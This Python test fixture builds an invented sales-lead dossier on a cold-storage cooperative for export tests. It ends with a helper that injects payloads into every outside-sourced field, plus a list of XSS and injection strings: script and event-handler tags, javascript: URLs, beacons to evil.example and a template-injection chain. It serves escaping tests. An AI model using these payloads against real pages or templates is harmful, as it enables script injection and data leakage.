"""A rich dossier made by hand about invented organisations, for the tests of exports and invariants.

It holds every field of the format: four source tiers, conflicts, a timeline, contested and superseded claims,
several claims per sentence, contacts of each status, gaps, an empty section and a claim set aside.
"""

from __future__ import annotations

from datetime import date
from typing import Any

from dossier.keys import digest, source_id
from dossier.models import (
    Ambiguity,
    ClaimType,
    Confidence,
    Conflict,
    ConflictValue,
    Contact,
    ContactDetail,
    Cost,
    Document,
    Dossier,
    DossierClaim,
    DossierLead,
    DossierMergedClaim,
    DossierScore,
    DossierSource,
    FactCheckSummary,
    InvalidClaim,
    Precision,
    ScorePart,
    Section,
    Sentence,
    Tier,
    Timeline,
    TimelineEntry,
    Verdict,
    WhyNow,
)

RUN_ID = "harborline-steel--brightwater-cold-storage-0a1b2c3d-1"
RETRIEVED = "2026-06-30T08:12:44Z"

_PERMIT = """NOTICE OF PERMIT ISSUED
Permit No. B-26-1187. Applicant: Brightwater Cold Storage Cooperative.
Site: 4100 Quarry Landing Road, Fairhaven. The permit covers a new refrigerated warehouse of 312,000 square feet.
The permit was issued on May 12, 2026. Declared value of work: $58,000,000.
The applicant's agent is Dana Whitlock, Director of Facilities, dwhitlock@brightwater.example, +1 555 0142.
"""
_RELEASE = """Brightwater to build cold storage hub in Fairhaven
FAIRHAVEN, May 14, 2026. Brightwater Cold Storage Cooperative today announced plans to build a refrigerated \
warehouse at Quarry Landing. The cooperative will invest $61 million in the project. The hub is expected to \
create 140 jobs by the end of 2027. "Our members outgrew the old docks," said Marcus Oyelaran, chief operating \
officer of Brightwater. Construction is to begin in the third quarter of 2026. Brightwater has engaged Tamarack \
Engineering for the design. The cooperative was founded in 1968 and serves 410 member farms.
"""
_NEWS = """Fairhaven lands $54 million freezer project
Brightwater Cold Storage Cooperative will spend $54 million on a freezer warehouse near the old quarry, county \
officials said. The project would create 140 jobs. Bids for the steel frame are due in August 2026, according to \
Tamarack Engineering, which is designing the building. Dana Whitlock, who leads facilities for the cooperative, \
said the frame package would be let separately.
"""
_JANUARY = """Brightwater weighs second site
The Brightwater cooperative said it was weighing a second site and put the cost at about $45 million. A decision \
was expected in the spring of 2026, chief operating officer Marcus Oyelaran told members in January 2026.
"""
_PAGE = """About the cooperative
Brightwater runs three warehouses with 640 employees. Members ship berries, fish and dairy.
Procurement: Ines Calloway, Procurement Manager. Profile: https://www.linkedin.example/in/ines-calloway
"""
_GRANT = """Rural Food Infrastructure Awards
Recipient: Brightwater Cold Storage Cooperative. Amount: $4,200,000. Purpose: energy efficient refrigeration.
"""
_OTHER_FIRM = """Brightwater Analytics opens Fairhaven office
Brightwater Analytics, a software firm with no link to the storage cooperative, hired 30 people.
"""

_DOCUMENTS: tuple[tuple[str, str | None, str, str | None, Tier, date | None, Precision | None, str], ...] = (
    (
        "permit",
        "https://fairhaven.example/permits/B-26-1187",
        "Notice of permit issued: B-26-1187",
        "City of Fairhaven",
        Tier.GOV,
        date(2026, 5, 12),
        Precision.DAY,
        _PERMIT,
    ),
    (
        "release",
        "https://www.brightwater.example/news/quarry-landing?ref=home&lang=en",
        "Brightwater to build cold storage hub in Fairhaven",
        "Brightwater Cold Storage Cooperative",
        Tier.PRIMARY,
        date(2026, 5, 14),
        Precision.DAY,
        _RELEASE,
    ),
    (
        "news",
        "https://fairhaven-ledger.example/2026/05/freezer-project",
        "Fairhaven lands $54 million freezer project",
        "Fairhaven Ledger",
        Tier.NEWS,
        date(2026, 5, 20),
        Precision.DAY,
        _NEWS,
    ),
    (
        "january",
        "https://coldchainweek.example/brightwater-second-site",
        "Brightwater weighs second site",
        "Cold Chain Week",
        Tier.NEWS,
        date(2026, 1, 1),
        Precision.MONTH,
        _JANUARY,
    ),
    (
        "page",
        "https://www.brightwater.example/about",
        "About the cooperative",
        "Brightwater Cold Storage Cooperative",
        Tier.PRIMARY,
        None,
        None,
        _PAGE,
    ),
    (
        "grant",
        None,
        "Rural Food Infrastructure Awards",
        "State Department of Agriculture",
        Tier.GOV,
        date(2026, 1, 1),
        Precision.QUARTER,
        _GRANT,
    ),
    (
        "other",
        "https://localtech.example/brightwater-analytics",
        "Brightwater Analytics opens Fairhaven office",
        None,
        Tier.OTHER,
        date(2026, 4, 2),
        Precision.DAY,
        _OTHER_FIRM,
    ),
)

# id, type, source, quote, statement (None: the quote), event date, precision, confidence
_CLAIMS: tuple[tuple[str, str, str, str, str | None, date | None, Precision | None, Confidence], ...] = (
    (
        "search_001",
        "SIGNAL",
        "permit",
        "The permit was issued on May 12, 2026.",
        "Permit B-26-1187 was issued to Brightwater Cold Storage Cooperative on May 12, 2026.",
        date(2026, 5, 12),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "search_002",
        "SIGNAL",
        "release",
        "Brightwater Cold Storage Cooperative today announced plans to build a refrigerated warehouse at Quarry"
        " Landing.",
        None,
        date(2026, 5, 14),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "search_003",
        "SIGNAL",
        "news",
        "Brightwater Cold Storage Cooperative will spend $54 million on a freezer warehouse near the old quarry,"
        " county officials said.",
        None,
        date(2026, 5, 20),
        Precision.DAY,
        Confidence.MEDIUM,
    ),
    (
        "search_004",
        "SIGNAL",
        "grant",
        "Recipient: Brightwater Cold Storage Cooperative. Amount: $4,200,000.",
        "Brightwater Cold Storage Cooperative received an award of $4,200,000.",
        date(2026, 1, 1),
        Precision.QUARTER,
        Confidence.HIGH,
    ),
    (
        "search_005",
        "SIGNAL",
        "january",
        "The Brightwater cooperative said it was weighing a second site and put the cost at about $45 million.",
        None,
        date(2026, 1, 1),
        Precision.MONTH,
        Confidence.MEDIUM,
    ),
    (
        "search_006",
        "SIGNAL",
        "other",
        "Brightwater Analytics, a software firm with no link to the storage cooperative, hired 30 people.",
        None,
        date(2026, 4, 2),
        Precision.DAY,
        Confidence.LOW,
    ),
    (
        "entity_001",
        "RELATIONSHIP",
        "release",
        "Brightwater has engaged Tamarack Engineering for the design.",
        None,
        date(2026, 5, 14),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "entity_002",
        "RELATIONSHIP",
        "news",
        "Tamarack Engineering, which is designing the building.",
        "Tamarack Engineering is designing the building.",
        date(2026, 5, 20),
        Precision.DAY,
        Confidence.MEDIUM,
    ),
    (
        "entity_003",
        "ENTITY",
        "release",
        "The cooperative was founded in 1968 and serves 410 member farms.",
        None,
        None,
        None,
        Confidence.HIGH,
    ),
    (
        "contact_001",
        "CONTACT",
        "permit",
        "The applicant's agent is Dana Whitlock, Director of Facilities, dwhitlock@brightwater.example, +1 555 0142.",
        None,
        None,
        None,
        Confidence.HIGH,
    ),
    (
        "contact_002",
        "CONTACT",
        "release",
        "said Marcus Oyelaran, chief operating officer of Brightwater.",
        "Marcus Oyelaran is chief operating officer of Brightwater.",
        None,
        None,
        Confidence.HIGH,
    ),
    (
        "contact_003",
        "CONTACT",
        "page",
        "Procurement: Ines Calloway, Procurement Manager.",
        "Ines Calloway is Procurement Manager at Brightwater.",
        None,
        None,
        Confidence.HIGH,
    ),
    (
        "contact_004",
        "CONTACT",
        "news",
        "Dana Whitlock, who leads facilities for the cooperative, said the frame package would be let separately.",
        None,
        date(2026, 5, 20),
        Precision.DAY,
        Confidence.MEDIUM,
    ),
    (
        "lead_001",
        "METRIC",
        "permit",
        "Declared value of work: $58,000,000.",
        "Declared value of the permitted work: $58,000,000.",
        date(2026, 5, 12),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "lead_002",
        "METRIC",
        "release",
        "The cooperative will invest $61 million in the project.",
        None,
        date(2026, 5, 14),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "lead_003",
        "METRIC",
        "release",
        "The hub is expected to create 140 jobs by the end of 2027.",
        None,
        date(2027, 1, 1),
        Precision.YEAR,
        Confidence.HIGH,
    ),
    (
        "lead_004",
        "METRIC",
        "news",
        "The project would create 140 jobs.",
        None,
        None,
        None,
        Confidence.MEDIUM,
    ),
    (
        "lead_005",
        "ATTRIBUTE",
        "page",
        "Brightwater runs three warehouses with 640 employees.",
        None,
        None,
        None,
        Confidence.HIGH,
    ),
    (
        "opp_001",
        "OPPORTUNITY",
        "permit",
        "The permit covers a new refrigerated warehouse of 312,000 square feet.",
        None,
        date(2026, 5, 12),
        Precision.DAY,
        Confidence.HIGH,
    ),
    (
        "opp_002",
        "OPPORTUNITY",
        "release",
        "Construction is to begin in the third quarter of 2026.",
        None,
        date(2026, 7, 1),
        Precision.QUARTER,
        Confidence.HIGH,
    ),
    (
        "opp_003",
        "OPPORTUNITY",
        "news",
        "Bids for the steel frame are due in August 2026",
        "Bids for the steel frame are due in August 2026.",
        date(2026, 8, 1),
        Precision.MONTH,
        Confidence.MEDIUM,
    ),
    (
        "client_001",
        "NOTE",
        "page",
        "Members ship berries, fish and dairy.",
        None,
        None,
        None,
        Confidence.LOW,
    ),
)

# merged id, status, confidence, claims (the first is the canonical one)
_MERGED: tuple[tuple[str, str, Confidence, tuple[str, ...]], ...] = (
    ("MERGED_001", "current", Confidence.HIGH, ("search_001",)),
    ("MERGED_002", "current", Confidence.HIGH, ("search_002", "search_003")),
    ("MERGED_003", "current", Confidence.HIGH, ("search_004",)),
    ("MERGED_004", "superseded", Confidence.MEDIUM, ("search_005",)),
    ("MERGED_005", "current", Confidence.HIGH, ("entity_001", "entity_002")),
    ("MERGED_006", "current", Confidence.HIGH, ("entity_003",)),
    ("MERGED_007", "current", Confidence.HIGH, ("contact_001", "contact_004")),
    ("MERGED_008", "current", Confidence.HIGH, ("contact_002",)),
    ("MERGED_009", "current", Confidence.HIGH, ("contact_003",)),
    ("MERGED_010", "contested", Confidence.LOW, ("lead_001",)),
    ("MERGED_011", "contested", Confidence.LOW, ("lead_002",)),
    ("MERGED_012", "current", Confidence.HIGH, ("lead_003", "lead_004")),
    ("MERGED_013", "current", Confidence.HIGH, ("lead_005",)),
    ("MERGED_014", "current", Confidence.HIGH, ("opp_001",)),
    ("MERGED_015", "current", Confidence.HIGH, ("opp_002",)),
    ("MERGED_016", "current", Confidence.MEDIUM, ("opp_003",)),
    ("MERGED_017", "current", Confidence.LOW, ("client_001",)),
)


def documents() -> list[Document]:
    """The sources with their texts, by id."""
    made = [
        Document(
            id=source_id(digest(text)),
            sha256=digest(text),
            url=url,
            title=title,
            publisher=publisher,
            tier=tier,
            published_at=published,
            published_precision=precision,
            retrieved_at=RETRIEVED,
            text=text,
        )
        for _, url, title, publisher, tier, published, precision, text in _DOCUMENTS
    ]
    return sorted(made, key=lambda document: document.id)


def texts() -> dict[str, str]:
    """The sources' texts by id."""
    return {document.id: document.text for document in documents()}


def raw_claim_ids() -> list[str]:
    """Every claim id the store would hold, the refused one included."""
    return sorted([row[0] for row in _CLAIMS] + ["search_007"])


def _ids() -> dict[str, str]:
    return {row[0]: source_id(digest(row[-1])) for row in _DOCUMENTS}


def _claims() -> list[DossierClaim]:
    sources = {row[0]: row for row in _DOCUMENTS}
    made = []
    for claim_id, kind, key, quote, statement, event_date, precision, confidence in _CLAIMS:
        text = sources[key][-1]
        start = text.index(quote)
        made.append(
            DossierClaim(
                id=claim_id,
                type=ClaimType(kind),
                statement=statement or quote,
                entities=["Brightwater Cold Storage Cooperative"],
                event_date=event_date,
                date_precision=precision,
                source_id=_ids()[key],
                quote=quote,
                start=start,
                end=start + len(quote),
                source_tier=sources[key][4],
                confidence=confidence,
            )
        )
    return sorted(made, key=lambda claim: claim.id)


def _merged(claims: list[DossierClaim]) -> list[DossierMergedClaim]:
    by_id = {claim.id: claim for claim in claims}
    return [
        DossierMergedClaim(
            id=merged_id,
            type=by_id[members[0]].type,
            statement=by_id[members[0]].statement,
            status=status,
            confidence=confidence,
            claim_ids=list(members),
            source_ids=sorted({by_id[member].source_id for member in members}),
        )
        for merged_id, status, confidence, members in _MERGED
    ]


def _sources() -> list[DossierSource]:
    return [
        DossierSource(**document.model_dump(exclude={"text", "doc_type"}), used_in=["intro", "signals"])
        for document in documents()
    ]


def _fact(text: str, *numbers: int) -> Sentence:
    return Sentence(text=text, kind="fact", claim_ids=[f"MERGED_{number:03d}" for number in numbers])


def _view(text: str, *numbers: int) -> Sentence:
    return Sentence(text=text, kind="interpretation", claim_ids=[f"MERGED_{number:03d}" for number in numbers])


def _signal_rows() -> list[dict[str, Any]]:
    ids = {row[0]: row[1] for row in _DOCUMENTS}
    return [
        {
            "signal_type": "new_plant_announced",
            "tier": "HOT",
            "headline": "Brightwater announces a refrigerated warehouse at Quarry Landing",
            "status": "ANNOUNCED",
            "date": "2026-05-14",
            "date_precision": "day",
            "amount": "$61 million",
            "source_url": ids["release"],
            "relevance": "",
            "claim_ids": ["MERGED_002", "MERGED_011"],
        },
        {
            "signal_type": "permit_issued",
            "tier": "WARM",
            "headline": "Building permit B-26-1187 issued for a refrigerated warehouse",
            "status": "APPROVED",
            "date": "2026-05-12",
            "date_precision": "day",
            "amount": "$58,000,000",
            "source_url": ids["permit"],
            "relevance": "",
            "claim_ids": ["MERGED_001", "MERGED_010"],
        },
        {
            "signal_type": "FUNDING",
            "tier": "PASSIVE",
            "headline": "State award of $4,200,000 for energy efficient refrigeration",
            "status": "COMPLETED",
            "date": "2026-01-01",
            "date_precision": "quarter",
            "amount": "$4,200,000",
            "source_url": None,
            "relevance": "",
            "claim_ids": ["MERGED_003"],
        },
    ]


def _sections() -> list[Section]:
    return [
        Section(
            key="intro",
            title="At a glance",
            content={
                "title": "Brightwater Cold Storage Cooperative",
                "one_liner": "May 2026: permit issued for a 312,000 square foot cold storage hub",
                "location": "Fairhaven",
                "size": "640 employees",
                "the_angle": [
                    "They are putting up a large insulated building on a short calendar.",
                    "You build such frames in one package.",
                ],
                "lead_score": 78,
                "timing_urgency": "HIGH",
            },
            sentences=[
                _fact(
                    "Brightwater Cold Storage Cooperative today announced plans to build a refrigerated warehouse"
                    " at Quarry Landing.",
                    2,
                ),
                _fact("The permit covers a new refrigerated warehouse of 312,000 square feet.", 14, 1),
                _fact("Bids for the steel frame are due in August 2026.", 16),
                _view("They are putting up a large insulated building on a short calendar.", 14, 15),
                _view("You build such frames in one package.", 16),
            ],
        ),
        Section(
            key="signals",
            title="Why they will buy now",
            content={"why_theyll_buy_now": _signal_rows()},
            sentences=[
                _fact(
                    "Brightwater Cold Storage Cooperative today announced plans to build a refrigerated warehouse"
                    " at Quarry Landing.",
                    2,
                    11,
                ),
                _fact("Permit B-26-1187 was issued to Brightwater Cold Storage Cooperative on May 12, 2026.", 1, 10),
                _fact("Brightwater Cold Storage Cooperative received an award of $4,200,000.", 3),
            ],
        ),
        Section(key="contacts", title="Who to talk to", content={"verified_contacts": ["CON_001"]}),
        Section(
            key="lead_intelligence",
            title="What is known about them",
            content={
                "network_intelligence": [
                    {
                        "type": "partner",
                        "name": "Tamarack Engineering",
                        "connection": "designs the building",
                        "approach": "Ask who owns the frame package.",
                        "claim_ids": ["MERGED_005"],
                    }
                ],
                "quick_reference": [
                    "Is the frame package still let separately?",
                    "Who signs off on the frame supplier?",
                    "Which dock loads first?",
                ],
            },
            sentences=[
                _fact("The cooperative was founded in 1968 and serves 410 member farms.", 6),
                _fact("Brightwater runs three warehouses with 640 employees.", 13),
                _fact("Brightwater has engaged Tamarack Engineering for the design.", 5),
            ],
        ),
        Section(
            key="strategy",
            title="How to sell to them",
            content={
                "deal_strategy": "Go through the designer first.",
                "common_objections": [
                    {
                        "objection": "We already have a designer.",
                        "response": "The frame is let separately, so the designer gains a second bidder.",
                        "claim_ids": ["MERGED_007"],
                    },
                    {"objection": "The date is too close.", "response": "Bids are due in August 2026."},
                ],
            },
            sentences=[
                _view("Go through the designer first.", 5),
                _view("The frame is let separately, so speed counts more than price.", 7, 15, 16),
            ],
        ),
        Section(
            key="opportunity",
            title="The opportunity",
            content={
                "opportunity_details": {
                    "project_name": "Quarry Landing hub",
                    "location": "4100 Quarry Landing Road, Fairhaven",
                    "coordinates": None,
                    "estimated_value": "$58,000,000 to $61 million",
                    "procurement_status": "Bids for the frame due in August 2026",
                    "timeline": [
                        {"milestone": "Permit issued", "date": "2026-05-12", "status": "COMPLETED"},
                        {"milestone": "Start of construction", "date": "2026-07-01", "status": "PLANNED"},
                    ],
                    "key_players": [{"role": "Designer", "organization": "Tamarack Engineering"}],
                    "claim_ids": ["MERGED_001", "MERGED_010", "MERGED_015"],
                }
            },
            sentences=[
                _fact("Declared value of the permitted work: $58,000,000.", 10),
                _fact("The cooperative will invest $61 million in the project.", 11),
                _fact("The hub is expected to create 140 jobs by the end of 2027.", 12),
                _fact("Construction is to begin in the third quarter of 2026.", 15),
            ],
        ),
        Section(
            key="client_specific",
            title="Your questions",
            content={
                "client_specific": [
                    {
                        "question": "Do they buy frames separately?",
                        "answer": "Dana Whitlock said the frame package would be let separately.",
                        "evidence_claims": ["MERGED_007"],
                    },
                    {"question": "Which insulation standard do they follow?", "answer": "", "evidence_claims": []},
                ]
            },
            gap="The sources do not say which insulation standard they follow.",
        ),
        Section(
            key="outreach",
            title="What to say",
            content={
                "ready_to_send_outreach": [
                    {
                        "contact_id": "CON_001",
                        "email": {
                            "subject": "The Quarry Landing frame",
                            "body": "Dana,\n\nthe permit for Quarry Landing came through in May.\n\nP.S. Good luck"
                            " with the docks.",
                            "word_count": 17,
                        },
                        "linkedin": {"message": "Dana, congratulations on the Quarry Landing permit."},
                        "client_email": None,
                        "client_linkedin": None,
                        "opening_facts": [
                            _fact(
                                "Permit B-26-1187 was issued to Brightwater Cold Storage Cooperative on May 12, 2026.",
                                1,
                            ).model_dump(mode="json"),
                            _fact("Bids for the steel frame are due in August 2026.", 16).model_dump(mode="json"),
                        ],
                        "adjustments_made": [],
                    }
                ]
            },
        ),
        Section(
            key="sources",
            title="Sources",
            content={"sources": [{"source_id": one, "used_in": ["intro"]} for one in sorted(_ids().values())]},
        ),
    ]


def _contacts() -> list[Contact]:
    ids = _ids()
    return [
        Contact(
            id="CON_001",
            name="Dana Whitlock",
            title="Director of Facilities",
            organization="Brightwater Cold Storage Cooperative",
            why="Named as the applicant's agent on the permit, and speaks for the frame package.",
            claim_ids=["MERGED_007"],
            is_primary=True,
            email=ContactDetail(value="dwhitlock@brightwater.example", status="published", source_id=ids["permit"]),
            phone=ContactDetail(
                value="+1 555 0142", status="published", source_id=ids["permit"], normalized="+15550142"
            ),
            linkedin=None,
            confidence=0.9,
        ),
        Contact(
            id="CON_002",
            name="Ines Calloway",
            title="Procurement Manager",
            organization="Brightwater Cold Storage Cooperative",
            why="Runs procurement.",
            claim_ids=["MERGED_009"],
            email=ContactDetail(value="icalloway@brightwater.example", status="inferred"),
            linkedin=ContactDetail(
                value="https://www.linkedin.example/in/ines-calloway", status="published", source_id=ids["page"]
            ),
            confidence=0.7,
        ),
        Contact(
            id="CON_003",
            name="Marcus Oyelaran",
            title=None,
            organization="Brightwater Cold Storage Cooperative",
            why="Spoke for the project.",
            claim_ids=["MERGED_008"],
            confidence=0.5,
        ),
    ]


def _conflict() -> Conflict:
    ids = _ids()
    return Conflict(
        id="CONFLICT_001",
        kind="amount",
        subject="What the second site costs",
        merged_claim_ids=["MERGED_010", "MERGED_011"],
        values=[
            ConflictValue(
                value="$58,000,000",
                claim_id="lead_001",
                source_id=ids["permit"],
                tier=Tier.GOV,
                date_reported=date(2026, 5, 12),
            ),
            ConflictValue(
                value="$61 million",
                claim_id="lead_002",
                source_id=ids["release"],
                tier=Tier.PRIMARY,
                date_reported=date(2026, 5, 14),
            ),
        ],
        preferred="$58,000,000",
        rule="A government source outranks the company's own.",
    )


def _timeline() -> Timeline:
    return Timeline(
        id="TIMELINE_001",
        subject="Cost of the second site",
        current="$58,000,000",
        history=[
            TimelineEntry(
                date_reported=date(2026, 1, 1),
                status="ANNOUNCED",
                value="about $45 million",
                claim_id="search_005",
            ),
            TimelineEntry(date_reported=date(2026, 5, 12), status="ACTUAL", value="$58,000,000", claim_id="lead_001"),
        ],
    )


def _score() -> DossierScore:
    return DossierScore(
        total=78,
        tier="B",
        formula="columnline",
        parts=[
            ScorePart(
                name="signal_tier",
                weight=25,
                value=25,
                reason="HOT: new_plant_announced.",
                claim_ids=["MERGED_002"],
            ),
            ScorePart(
                name="timing", weight=15, value=15, reason="Construction starts in Q3 2026.", claim_ids=["MERGED_015"]
            ),
            ScorePart(name="geography", weight=10, value=5, reason="Fairhaven lies in the second tier."),
            ScorePart(
                name="further_signals", weight=15, value=10, reason="Two further signals.", claim_ids=["MERGED_001"]
            ),
            ScorePart(
                name="epcm_engaged", weight=10, value=10, reason="A designer is engaged.", claim_ids=["MERGED_005"]
            ),
            ScorePart(name="prior_relationship", weight=15, value=0, reason="None is known."),
        ],
    )


def dossier(**changes: Any) -> Dossier:
    """The dossier; `changes` replace whole fields."""
    claims = _claims()
    made = Dossier(
        run_id=RUN_ID,
        client="harborline-steel",
        lead=DossierLead(id="ld_5f0c", name="Brightwater Cold Storage Cooperative", domain="brightwater.example"),
        status="complete",
        provider="extractive",
        reference_date=date(2026, 6, 30),
        created_at="2026-06-30T08:15:00Z",
        score=_score(),
        timing_urgency="HIGH",
        why_now=WhyNow(
            text="Brightwater Cold Storage Cooperative today announced plans to build a refrigerated warehouse at"
            " Quarry Landing.",
            claim_ids=["MERGED_002"],
            event_date=date(2026, 5, 14),
            date_precision=Precision.DAY,
            url="https://www.brightwater.example/news/quarry-landing?ref=home&lang=en",
            age_days=47,
        ),
        sections=_sections(),
        claims=claims,
        invalid_claims=[
            InvalidClaim(id="search_006", reason="It is about another company: Brightwater Analytics."),
            InvalidClaim(id="search_007", reason="The quote does not stand in the source."),
        ],
        merged_claims=_merged(claims),
        conflicts=[_conflict()],
        timelines=[_timeline()],
        ambiguous=[
            Ambiguity(
                id="AMBIGUOUS_001", claim_ids=["lead_001", "search_005"], reason="one project or two, nobody says"
            )
        ],
        contacts=_contacts(),
        sources=_sources(),
        fact_check=FactCheckSummary(
            sentences=18,
            supported=17,
            unsupported=[
                Verdict(
                    section="strategy",
                    text="They have already chosen a supplier.",
                    verdict="unsupported",
                    reason="No cited quote holds it.",
                )
            ],
        ),
        gaps=[
            "The sources do not say which insulation standard they follow.",
            "2 sources were published after the reference date and were not used.",
        ],
        cost=Cost(),
    )
    return made.model_copy(update=changes)


def empty_dossier() -> Dossier:
    """A dossier about a lead on which nothing was found: complete, and every section declared empty."""
    gap = "Nothing was found in the corpus about this organisation."
    keep = dossier()
    return keep.model_copy(
        update={
            "score": DossierScore(total=0, tier="D", formula="columnline", parts=[]),
            "timing_urgency": "LOW",
            "why_now": None,
            "sections": [Section(key=one.key, title=one.title, gap=gap) for one in keep.sections],
            "claims": [],
            "invalid_claims": [],
            "merged_claims": [],
            "conflicts": [],
            "ambiguous": [],
            "timelines": [],
            "contacts": [],
            "sources": [],
            "fact_check": FactCheckSummary(sentences=0, supported=0, unsupported=[]),
            "gaps": [gap],
        }
    )


_OUTSIDE_TEXT = frozenset(
    "name domain text statement quote title publisher url reason why value rule subject current preferred"
    " organization headline detail relevance source_url amount signal_type status_text one_liner location size"
    " question answer objection response subject body message connection approach type_text project_name"
    " estimated_value procurement_status milestone role not_written formula gap client".split()
)


def poisoned(payload: str) -> Dossier:
    """The dossier with `payload` in every text that comes from outside or from a model."""
    data = dossier(provider="anthropic").model_dump(mode="json", by_alias=True)
    data["gaps"] = [payload, *data["gaps"]]
    return Dossier.model_validate(_poison(data, payload))


def _poison(value: Any, payload: str) -> Any:
    if isinstance(value, dict):
        return {key: _poison_field(key, item, payload) for key, item in value.items()}
    return [_poison(item, payload) for item in value] if isinstance(value, list) else value


def _poison_field(key: str, value: Any, payload: str) -> Any:
    if key in ("url", "source_url", "domain") and value is not None:
        return payload
    if isinstance(value, str) and key in _OUTSIDE_TEXT:
        return f"{payload} {value} {payload}"
    if isinstance(value, list) and value and all(isinstance(one, str) for one in value) and "ids" not in key:
        return [*value, payload] if key in ("the_angle", "quick_reference", "entities") else value
    return _poison(value, payload)


PAYLOADS = (
    "<script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/beacon.png>",
    '"><img src=https://evil.example/b.gif onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "<svg><script href=https://evil.example/x.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<form action=https://evil.example/><input autofocus onfocus=alert(1)></form>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "JaVa\tScRiPt:alert(1)",
    "javascript://evil.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    "[x]: https://evil.example/ 'onerror=alert(1)'",
    "<video><source onerror=alert(1) src=https://evil.example/v></video>",
    "<audio src=https://evil.example/a onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "\u202e<img src=x onerror=alert(1)>\u0000\x1b[31m",
    "<!channel> <https://evil.example|click> --><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<x onclick=alert(1) style=position:fixed;inset:0>click</x>",
)
